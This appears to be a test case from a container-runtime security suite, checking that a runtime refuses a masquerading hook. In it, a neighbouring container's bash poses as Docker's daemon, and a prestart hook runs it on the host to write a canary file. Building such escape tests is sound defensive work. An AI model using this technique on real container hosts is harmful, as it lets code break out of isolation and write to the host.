"""A program of another container calls itself Docker's daemon, and a hook that is Docker's by its form runs it on the host."""

import os
import shutil

from bypass import refused

SOURCE = "idea"
WAY = "create"
STOPPED = refused("hook")


def put_program(box):
    shutil.copy(box.rootfs + "/bin/bash", box.rootfs + "/dockerd")
    os.mkfifo(box.rootfs + "/fifo")


def attack(t):
    t.allow_network()
    other = t.neighbour(["/dockerd", "-c", "read line <> /fifo"], put_program)
    t.hook("prestart", "/proc/%d/exe" % other.pid, "libnetwork-setkey", "-c", "read line; echo %s > /mnt/host/written" % t.canary)
    t.run("true")
    return t.leaked(t.read("/mnt/host/written"))
